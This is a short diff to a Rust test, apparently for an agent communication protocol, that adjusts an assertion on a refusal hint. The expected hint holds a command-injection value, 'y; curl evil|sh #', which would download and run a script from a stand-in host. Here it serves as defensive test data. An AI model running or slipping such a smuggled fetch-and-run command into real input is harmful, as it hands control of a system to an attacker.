@@ -500,7 +500,7 @@ fn what_an_agent_calls_something_is_one_word_of_a_command() {
     for answer in [json!({"kind":"allow"}), json!({"kind":"option","option":"x"})] {
         let answer = json!({"id":id,"answer":answer});
         let refused = ask(&mut bench, a, "_acpd/interaction/answer", &answer);
-        assert!(hint(&refused).contains("`y`, `'y; curl evil|sh #'`"), "{refused}");
+        assert!(hint(&refused).ends_with("'y; curl evil|sh #'`"), "{refused}");
     }
 
     let blocks = json!([{"type":"text","text":"more"}]);
